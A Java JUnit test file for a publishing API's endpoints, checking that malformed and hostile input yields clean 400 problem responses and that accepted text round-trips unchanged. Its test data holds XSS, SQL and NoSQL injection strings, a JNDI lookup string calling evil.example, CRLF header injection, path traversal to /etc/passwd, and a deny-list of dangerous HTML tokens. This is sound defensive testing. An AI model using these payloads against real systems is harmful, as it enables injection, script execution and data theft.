package dev.masthead.web;

import static dev.masthead.auth.AdminSession.asAdmin;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.masthead.Unique;
import dev.masthead.article.ArticleFixtures;
import dev.masthead.author.AuthorFixtures;
import dev.masthead.auth.AdminSession;
import dev.masthead.tag.TagFixtures;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

/**
 * Every endpoint that takes input, fed what attackers and broken clients send:
 * the answer is never a 5xx, every 4xx is problem+json, and whatever is
 * accepted comes back exactly as it was sent.
 */
@QuarkusTest
class HostileInputTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String MERGE_PATCH = "application/merge-patch+json";

    /** Text a headline or a name may legitimately contain; accepted, it must round-trip exactly. */
    private static final Map<String, String> HOSTILE_TEXT = orderedMap(
            "script tag", "<script>alert(1)</script>",
            "img onerror", "<img src=x onerror=alert(1)>",
            "sql tautology", "' OR 1=1 --",
            "sql drop", "'; DROP TABLE article; --",
            "sql drop tag", "Robert'); DROP TABLE tag;--",
            "emoji", "Harbour 🚢🌊 news 👩‍👩‍👧‍👦",
            "right to left", "مرحبا بالعالم \u202Etxt.exe",
            "zero width", "zero\u200Bwidth\u200C\u200Djoiner\uFEFFbom",
            "nul", "nul\u0000byte",
            "four-byte", "𝕳𝖊𝖆𝖉𝖑𝖎𝖓𝖊 𠜎𠜱 𝄞",
            "combining", "Z̷̢͎̈a̴͔͐l̶̨̈g̵̱̈́o̸͚͝",
            "control", "bell\u0007escape\u001B[31m",
            "crlf", "line\r\nX-Injected: 1",
            "path traversal", "../../etc/passwd",
            "template", "${jndi:ldap://evil.example/a}{{7*7}}",
            "percent", "100% %s %n %00");

    /** Characters a publisher may reasonably refuse in a one-line field (PostgreSQL cannot even store NUL). */
    private static final List<String> MAY_BE_REFUSED = List.of("nul", "control", "crlf");

    private static final String OVERSIZE = "x".repeat(10_000);

    private static final List<String> MALFORMED_BODIES = List.of("{", "[]", "null", "\"str\"", "{\"title\":", "",
            "{\"title\": \"a\",}", "{'title': 'single quotes'}", "[{\"title\":\"in an array\"}]", "123", "true");

    private static final List<String> WRONG_TYPES = List.of("42", "-1.5e308", "true", "[\"a\",\"b\"]", "{\"a\":1}", "[]", "{}");

    // --- fixtures, made once on first use ------------------------------------------------

    private static String articleId;
    private static String tagId;
    private static String authorId;

    private static synchronized String articleId() {
        if (articleId == null) {
            articleId = ArticleFixtures.article().draft().id();
        }
        return articleId;
    }

    private static synchronized String tagId() {
        if (tagId == null) {
            tagId = TagFixtures.createTag("hostile").id();
        }
        return tagId;
    }

    private static synchronized String authorId() {
        if (authorId == null) {
            authorId = AuthorFixtures.createAuthor("hostile").id();
        }
        return authorId;
    }

    // --- the endpoints that take a body --------------------------------------------------

    enum Kind { ARTICLE, TAG, AUTHOR, LOGIN }

    /** One write endpoint: how to reach it, which text field it names, and a valid body to spoil. */
    record Write(String label, Kind kind, String method, String field, Supplier<String> path) {

        ObjectNode validBody() {
            ObjectNode body = JSON.createObjectNode();
            switch (kind) {
                case ARTICLE -> {
                    if (!method.equals("PATCH")) {
                        body.put("title", Unique.name("Hostile headline"));
                        body.put("markdown", "Plain text.");
                    }
                }
                case TAG, AUTHOR -> {
                    if (!method.equals("PATCH")) {
                        body.put("name", Unique.name("Hostile name"));
                    }
                }
                case LOGIN -> {
                    body.put("email", AdminSession.EMAIL);
                    body.put("password", "not-the-password");
                }
            }
            return body;
        }

        Response send(String body) {
            RequestSpecification request = kind == Kind.LOGIN ? given() : given()
                    .header("Authorization", "Bearer " + AdminSession.token());
            request.contentType(method.equals("PATCH") ? MERGE_PATCH : "application/json")
                    .body(body.getBytes(StandardCharsets.UTF_8));
            if (!method.equals("POST")) {
                request.header("If-Match", "*");
            }
            return request.request(method, path.get());
        }

        /** Where the written item can be read back, from the write's answer. */
        String readPath(Response written) {
            String base = switch (kind) {
                case ARTICLE -> "/api/v1/admin/articles/";
                case TAG -> "/api/v1/admin/tags/";
                case AUTHOR -> "/api/v1/admin/authors/";
                case LOGIN -> throw new IllegalStateException("nothing to read back");
            };
            return base + json(written).getString("data.id");
        }

        @Override
        public String toString() {
            return label;
        }
    }

    static List<Write> writes() {
        return List.of(
                new Write("POST article", Kind.ARTICLE, "POST", "title", () -> "/api/v1/admin/articles"),
                new Write("PUT article", Kind.ARTICLE, "PUT", "title", () -> "/api/v1/admin/articles/" + articleId()),
                new Write("PATCH article", Kind.ARTICLE, "PATCH", "title", () -> "/api/v1/admin/articles/" + articleId()),
                new Write("POST tag", Kind.TAG, "POST", "name", () -> "/api/v1/admin/tags"),
                new Write("PUT tag", Kind.TAG, "PUT", "name", () -> "/api/v1/admin/tags/" + tagId()),
                new Write("PATCH tag", Kind.TAG, "PATCH", "name", () -> "/api/v1/admin/tags/" + tagId()),
                new Write("POST author", Kind.AUTHOR, "POST", "name", () -> "/api/v1/admin/authors"),
                new Write("PUT author", Kind.AUTHOR, "PUT", "name", () -> "/api/v1/admin/authors/" + authorId()),
                new Write("PATCH author", Kind.AUTHOR, "PATCH", "name", () -> "/api/v1/admin/authors/" + authorId()),
                new Write("POST token", Kind.LOGIN, "POST", "email", () -> "/api/v1/admin/auth/token"));
    }

    // --- malformed bodies ----------------------------------------------------------------

    static Stream<Arguments> malformedBodies() {
        return writes().stream().flatMap(write -> MALFORMED_BODIES.stream().map(body -> Arguments.of(write, body)));
    }

    @ParameterizedTest(name = "{0} with body {1}")
    @MethodSource("malformedBodies")
    void malformedBodyIsProblem400(Write write, String body) {
        Response response = write.send(body);

        assertProblem(response, write + " " + body);
        assertEquals(400, response.statusCode(), write + " " + body + ": " + response.asString());
    }

    // --- wrong JSON types in the text field ----------------------------------------------

    static Stream<Arguments> wrongTypes() {
        return writes().stream().flatMap(write -> WRONG_TYPES.stream().map(value -> Arguments.of(write, value)));
    }

    @ParameterizedTest(name = "{0} with {1} as its text")
    @MethodSource("wrongTypes")
    void wrongTypeIsRefusedOrReadAsText(Write write, String value) throws JsonProcessingException {
        ObjectNode body = write.validBody();
        body.set(write.field(), JSON.readTree(value));

        Response response = write.send(body.toString());

        assertNotServerError(response, write + " " + value);
        if (response.statusCode() >= 400) {
            assertProblem(response, write + " " + value);
            if (write.kind() != Kind.LOGIN) {
                assertEquals(400, response.statusCode(), response.asString());
            }
        } else {
            // Jackson reads a bare scalar as its text; anything else must have been refused.
            assertTrue(JSON.readTree(value).isValueNode(), write + " accepted " + value + ": " + response.asString());
        }
    }

    static Stream<Arguments> wrongTypesInOtherFields() {
        List<Arguments> cases = new ArrayList<>();
        for (Write write : writes()) {
            List<String[]> fields = switch (write.kind()) {
                case ARTICLE -> List.of(
                        field("authorIds", "\"abc\""),
                        field("authorIds", "[\"not-a-uuid\"]"),
                        field("authorIds", "[42]"),
                        field("authorIds", "{}"),
                        field("authorIds", "[null]"),
                        field("authorIds", "[\"00000000-0000-0000-0000-000000000000\"]"),
                        field("tagIds", "\"climate\""),
                        field("tagIds", "[\"not-a-uuid\"]"),
                        field("tagIds", "[[]]"),
                        field("tagIds", "[\"" + UUID.randomUUID() + "\"]"),
                        field("featured", "\"maybe\""),
                        field("featured", "[true]"),
                        field("featureImage", "\"https://images.example.com/a.jpg\""),
                        field("featureImage", "{\"url\":\"javascript:alert(1)\"}"),
                        field("featureImage", "{\"url\":42,\"alt\":[]}"),
                        field("seo", "[]"),
                        field("seo", "{\"canonicalUrl\":\"javascript:alert(1)\"}"),
                        field("slug", "\"../../etc\""),
                        field("excerpt", "{}"),
                        field("markdown", "[\"a\"]"),
                        field("version", "\"latest\""));
                case TAG -> List.of(
                        field("description", "{}"),
                        field("slug", "[\"a\"]"),
                        field("slug", "\"<script>\""),
                        field("version", "\"latest\""),
                        field("version", "[1]"));
                case AUTHOR -> List.of(
                        field("bio", "[]"),
                        field("avatarUrl", "42"),
                        field("avatarUrl", "\"javascript:alert(1)\""),
                        field("website", "{\"href\":\"https://example.org\"}"),
                        field("slug", "\"'; DROP TABLE author; --\""));
                case LOGIN -> List.of(
                        field("password", "42"),
                        field("password", "[\"" + AdminSession.PASSWORD + "\"]"),
                        field("password", "{\"$ne\":null}"),
                        field("email", "{\"$gt\":\"\"}"));
            };
            fields.forEach(pair -> cases.add(Arguments.of(write, pair[0], pair[1])));
        }
        return cases.stream();
    }

    private static String[] field(String name, String json) {
        return new String[] { name, json };
    }

    @ParameterizedTest(name = "{0} with {1}={2}")
    @MethodSource("wrongTypesInOtherFields")
    void wrongTypeInAnotherFieldIsProblem4xx(Write write, String field, String value) throws JsonProcessingException {
        ObjectNode body = write.validBody();
        body.set(field, JSON.readTree(value));

        Response response = write.send(body.toString());

        assertProblem(response, write + " " + field + "=" + value);
        if (write.kind() == Kind.LOGIN) {
            assertTrue(response.statusCode() == 400 || response.statusCode() == 401, response.asString());
        } else {
            assertEquals(400, response.statusCode(), write + " " + field + "=" + value + ": " + response.asString());
            assertTrue(json(response).getList("errors.field").stream().anyMatch(f -> String.valueOf(f).startsWith(field)),
                    "names " + field + ": " + response.asString());
        }
    }

    // --- hostile text --------------------------------------------------------------------

    static Stream<Arguments> hostileText() {
        return writes().stream().flatMap(write -> HOSTILE_TEXT.entrySet().stream()
                .map(text -> Arguments.of(write, text.getKey(), text.getValue())));
    }

    @ParameterizedTest(name = "{0} with {1}")
    @MethodSource("hostileText")
    void hostileTextIsStoredVerbatimOrRefusedCleanly(Write write, String label, String text) {
        ObjectNode body = write.validBody();
        body.put(write.field(), text);

        Response response = write.send(body.toString());

        assertNotServerError(response, write + " " + label);
        if (write.kind() == Kind.LOGIN) {
            assertProblem(response, write + " " + label);
            assertTrue(response.statusCode() == 400 || response.statusCode() == 401,
                    "no sign-in with " + label + ": " + response.asString());
            return;
        }
        if (response.statusCode() >= 400 && MAY_BE_REFUSED.contains(label)) {
            assertProblem(response, write + " " + label);
            assertEquals(400, response.statusCode(), response.asString());
            return;
        }
        assertTrue(response.statusCode() == 200 || response.statusCode() == 201,
                write + " refused " + label + ": " + response.asString());
        assertEquals(text, json(response).getString("data." + write.field()), "as answered");
        Response read = asAdmin().get(write.readPath(response));
        read.then().statusCode(200);
        assertEquals(text, json(read).getString("data." + write.field()), "as stored");
        if (label.startsWith("sql")) {
            assertListsStillWork();
        }
    }

    static Stream<Arguments> oversizeText() {
        return writes().stream().map(Arguments::of);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("oversizeText")
    void oversizeTextIsProblem400NamingTheField(Write write) {
        ObjectNode body = write.validBody();
        body.put(write.field(), OVERSIZE);

        Response response = write.send(body.toString());

        assertProblem(response, write + " oversize");
        assertEquals(400, response.statusCode(), response.asString());
        assertTrue(json(response).getList("errors.field").contains(write.field()), response.asString());
    }

    // --- markup in article bodies --------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=x OnError=alert(1)>",
            "<svg onload=alert(1)><circle r=1 /></svg>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "[click](javascript:alert(1))",
            "![pic](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "<div style=\"background:url(javascript:alert(1))\">styled</div>",
            "<style>body{display:none}</style>",
            "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
            "<form action=\"https://evil.example\"><input name=q></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<<script>script>alert(1)<</script>/script>",
            "```html\n<script>alert(1)</script>\n```",
    })
    void markupInMarkdownIsKeptAsWrittenButRenderedHarmless(String markup) {
        String markdown = "Opening paragraph.\n\n" + markup + "\n\nClosing paragraph.";
        var created = ArticleFixtures.article().markdown(markdown).published();

        Response admin = asAdmin().get("/api/v1/admin/articles/" + created.id());
        admin.then().statusCode(200);
        assertEquals(markdown, json(admin).getString("data.markdown"));
        assertHarmless(json(admin).getString("data.html"));

        Response delivered = given().get("/api/v1/articles/" + created.slug());
        delivered.then().statusCode(200);
        assertHarmless(json(delivered).getString("data.html"));
        assertTrue(json(delivered).getString("data.html").contains("Closing paragraph."));
    }

    // --- SQL text --------------------------------------------------------------------------

    @Test
    void sqlTextIsJustTextEverywhere() {
        String sql = "'; DROP TABLE article; -- " + Unique.name("sql");
        var tag = asAdmin().body(Map.of("name", sql, "description", "' OR '1'='1")).post("/api/v1/admin/tags")
                .then().statusCode(201).extract();
        var author = asAdmin().body(Map.of("name", sql, "bio", "\" OR \"\"=\"")).post("/api/v1/admin/authors")
                .then().statusCode(201).extract();
        var article = ArticleFixtures.article().title(sql).markdown("SELECT * FROM account; -- " + sql)
                .tag(tag.path("data.id")).author(author.path("data.id")).published();

        assertListsStillWork();
        Response delivered = given().get("/api/v1/articles/" + article.slug());
        delivered.then().statusCode(200);
        assertEquals(sql, json(delivered).getString("data.title"));
        assertEquals(sql, json(delivered).getString("data.tags[0].name"));
        assertEquals(sql, json(delivered).getString("data.authors[0].name"));
        given().queryParam("tag", (String) tag.path("data.slug")).get("/api/v1/articles")
                .then().statusCode(200);
        assertEquals(List.of(article.slug()),
                json(given().queryParam("tag", (String) tag.path("data.slug")).get("/api/v1/articles")).getList("data.slug"));
    }

    // --- hostile query values and path segments on the Delivery API ----------------------

    private static final List<String> HOSTILE_QUERY_VALUES = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "' OR 1=1 --", "'; DROP TABLE article; --",
            "🚢🌊", "مرحبا\u202E", "zero\u200Bwidth", "nul\u0000byte", "𠜎𝄞", "../../etc/passwd", "%00", "%",
            "", " ", "-1", "0", "99999999999999999999", "1e309", "NaN", "null", "[]", "{}", "x".repeat(2_000));

    static Stream<Arguments> hostileQueries() {
        List<String[]> targets = List.of(
                new String[] { "/api/v1/articles", "tag" },
                new String[] { "/api/v1/articles", "author" },
                new String[] { "/api/v1/articles", "sort" },
                new String[] { "/api/v1/articles", "cursor" },
                new String[] { "/api/v1/articles", "page" },
                new String[] { "/api/v1/articles", "pageSize" },
                new String[] { "/api/v1/articles", "featured" },
                new String[] { "/api/v1/articles", "publishedAfter" },
                new String[] { "/api/v1/articles", "publishedBefore" },
                new String[] { "/api/v1/tags", "page" },
                new String[] { "/api/v1/tags", "pageSize" },
                new String[] { "/api/v1/authors", "page" },
                new String[] { "/api/v1/authors", "pageSize" },
                new String[] { "/api/v1/recent-posts", "limit" },
                // Every hostile value is a bad limit, so the slug need not exist: the limit is checked first.
                new String[] { "/api/v1/articles/any-slug/related", "limit" },
                // Any q is a search (odd ones find nothing); only an empty or oversize one is a 400.
                new String[] { "/api/v1/search", "q" },
                new String[] { "/api/v1/search?q=harbour", "tag" },
                new String[] { "/api/v1/search?q=harbour", "author" },
                new String[] { "/api/v1/search?q=harbour", "page" },
                new String[] { "/api/v1/search?q=harbour", "pageSize" },
                new String[] { "/api/v1/search?q=harbour", "publishedAfter" },
                new String[] { "/api/v1/search?q=harbour", "publishedBefore" });
        return targets.stream().flatMap(target -> HOSTILE_QUERY_VALUES.stream()
                .map(value -> Arguments.of(target[0], target[1], value)));
    }

    @ParameterizedTest(name = "{0}?{1}={2}")
    @MethodSource("hostileQueries")
    void hostileQueryValueIsNeverAServerError(String path, String parameter, String value) {
        Response response = given().queryParam(parameter, value).get(path);

        assertNotServerError(response, path + "?" + parameter);
        if (response.statusCode() >= 400) {
            assertProblem(response, path + "?" + parameter);
            assertEquals(400, response.statusCode(), response.asString());
        } else {
            assertEquals(200, response.statusCode());
            assertTrue(response.contentType().startsWith("application/json"), response.contentType());
            assertNotNull(json(response).getList("data"));
        }
    }

    static Stream<Arguments> hostileSlugs() {
        return Stream.of("/api/v1/articles/", "/api/v1/tags/", "/api/v1/authors/", "/api/v1/admin/articles/",
                        "/api/v1/admin/tags/", "/api/v1/admin/authors/")
                .flatMap(base -> HOSTILE_QUERY_VALUES.stream().filter(v -> !v.isBlank())
                        .map(value -> Arguments.of(base, value)));
    }

    @ParameterizedTest(name = "{0}{1}")
    @MethodSource("hostileSlugs")
    void hostilePathSegmentIsNeverAServerError(String base, String segment) {
        String encoded = URLEncoder.encode(segment, StandardCharsets.UTF_8).replace("+", "%20");
        Response response = asAdmin().urlEncodingEnabled(false).redirects().follow(false).get(base + encoded);

        assertNotServerError(response, base + segment);
        if (response.statusCode() >= 400) {
            assertProblem(response, base + segment);
        }
    }

    static Stream<String> hostileRelatedSlugs() {
        return HOSTILE_QUERY_VALUES.stream().filter(v -> !v.isBlank());
    }

    @ParameterizedTest(name = "/api/v1/articles/{0}/related")
    @MethodSource("hostileRelatedSlugs")
    void hostileSlugOfARelatedListIsNeverAServerError(String segment) {
        String path = "/api/v1/articles/" + URLEncoder.encode(segment, StandardCharsets.UTF_8).replace("+", "%20")
                + "/related";
        Response response = given().urlEncodingEnabled(false).redirects().follow(false).get(path);

        assertProblem(response, path);
    }

    @Test
    void repeatedParametersAreNeverAServerError() {
        var request = given();
        for (int i = 0; i < 25; i++) {
            request.queryParam("tag", "tag-" + i);
        }
        Response response = request.get("/api/v1/articles");

        assertProblem(response, "25 tags");
        assertEquals(400, response.statusCode());
    }

    // --- assertions ----------------------------------------------------------------------

    private static void assertNotServerError(Response response, String what) {
        assertTrue(response.statusCode() < 500, what + " answered " + response.statusCode() + ": " + response.asString());
    }

    private static void assertProblem(Response response, String what) {
        assertNotServerError(response, what);
        assertTrue(response.statusCode() >= 400, what + " answered " + response.statusCode() + ": " + response.asString());
        assertTrue(String.valueOf(response.contentType()).startsWith("application/problem+json"),
                what + " answered " + response.contentType() + ": " + response.asString());
        JsonPath problem = json(response);
        assertEquals(response.statusCode(), problem.getInt("status"), what);
        assertTrue(problem.getString("type").startsWith("https://masthead.dev/problems/"), what);
        assertNotNull(problem.getString("code"), what);
        assertEquals(response.header("X-Request-Id"), problem.getString("requestId"), what);
        String body = response.asString();
        assertFalse(body.contains("Exception") || body.contains("at dev.masthead") || body.contains("org.hibernate"),
                what + " leaks internals: " + body);
    }

    private static void assertHarmless(String html) {
        String lower = html.toLowerCase(Locale.ROOT);
        for (String bad : new String[] { "<script", "onerror", "onload", "javascript:", "<iframe", "<svg", "<style",
                "<object", "<embed", "<form", "style=" }) {
            assertFalse(lower.contains(bad), "rendered html contains " + bad + ": " + html);
        }
    }

    private static void assertListsStillWork() {
        given().get("/api/v1/articles").then().statusCode(200);
        given().get("/api/v1/tags").then().statusCode(200);
        given().get("/api/v1/authors").then().statusCode(200);
        asAdmin().get("/api/v1/admin/articles").then().statusCode(200);
    }

    /** Parses the body as UTF-8 whatever charset the content type names (or omits). */
    private static JsonPath json(Response response) {
        return JsonPath.from(new String(response.asByteArray(), StandardCharsets.UTF_8));
    }

    private static Map<String, String> orderedMap(String... pairs) {
        Map<String, String> map = new java.util.LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put(pairs[i], pairs[i + 1]);
        }
        return map;
    }
}
